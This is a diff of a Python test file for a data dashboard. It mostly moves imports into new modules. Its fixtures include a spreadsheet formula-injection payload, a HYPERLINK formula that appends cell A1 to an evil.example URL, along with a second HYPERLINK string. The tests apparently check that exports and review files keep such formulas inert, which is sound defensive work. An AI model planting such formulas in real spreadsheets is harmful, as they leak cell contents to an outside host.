@@ -7,8 +7,11 @@ import io
 
 import pandas as pd
 
-from dashboard import cli, control, data, export, spreadsheet
-from dashboard.data import load_dataset
+from dashboard import cli
+from dashboard.core import control, data
+from dashboard.core import spreadsheet
+from dashboard.exports import records as export
+from dashboard.core.data import load_dataset
 from tests.dataset_helpers import PLACES, ev, make_dataset
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
@@ -72,8 +75,8 @@ def test_acled_export_is_inert_and_reads_back_as_it_was(tmp_path):
 
 
 def test_a_review_file_is_inert_and_accept_takes_it_back_verbatim(tmp_path):
-    from dashboard import extraction
-    from dashboard.accepting import accept
+    from dashboard.ingest import extraction
+    from dashboard.ingest.accepting import accept
 
     e, p, a = make_dataset(tmp_path, [ev()])
     text = "=HYPERLINK(\"https://evil.example\") Rebels captured Bravo on Friday."
